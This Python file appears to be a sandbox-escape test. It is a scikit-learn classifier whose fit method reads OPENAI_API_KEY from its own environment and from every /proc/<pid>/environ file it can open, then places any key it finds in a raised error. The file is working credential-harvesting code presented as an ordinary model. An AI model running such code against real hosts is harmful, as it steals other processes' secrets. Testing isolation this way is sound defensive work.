"""Attack: read the parent's API key from os.environ, /proc/<ppid>/environ, /proc/1/environ
and every other /proc/<pid>/environ in sight, and put what it finds into its error.

See ``connect_back.py`` for how an attack reports.
"""

from __future__ import annotations

import os
from typing import Any

import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin

SETTINGS: dict[str, Any] = {}
KEY = "OPENAI_API_KEY"


def _from_proc(pid: str) -> str | None:
    with open(f"/proc/{pid}/environ", "rb") as handle:
        for item in handle.read().split(b"\0"):
            name, _, value = item.partition(b"=")
            if name.decode(errors="replace") == KEY:
                return value.decode(errors="replace")
    return None


class Attack(ClassifierMixin, BaseEstimator):
    def fit(self, X: Any, y: Any) -> Attack:
        outcomes = []
        value = os.environ.get(KEY)
        outcomes.append(f"ESCAPED os.environ: {value}" if value else "BLOCKED os.environ")
        named = {"ppid": str(os.getppid()), "pid 1": "1"}
        others = [p for p in os.listdir("/proc") if p.isdigit() and p not in named.values()]
        n_read = 0
        for label, pid in [*named.items(), *((f"pid {p}", p) for p in others)]:
            try:
                value = _from_proc(pid)
                n_read += 1
            except OSError as exc:
                if label in named:
                    outcomes.append(f"BLOCKED /proc/{pid}/environ ({label}): {exc.strerror}")
                continue
            if value:
                outcomes.append(f"ESCAPED /proc/{pid}/environ ({label}): {value}")
        outcomes.append(f"read {n_read} environ files of {len(others) + 2} processes")
        raise RuntimeError("ATTACK read_environment: " + "; ".join(outcomes))

    def predict(self, X: Any) -> np.ndarray:
        return np.zeros(len(X))

    def predict_proba(self, X: Any) -> np.ndarray:
        return np.full((len(X), 2), 0.5)


def build_model(params: dict[str, Any]) -> Attack:
    return Attack(**SETTINGS)
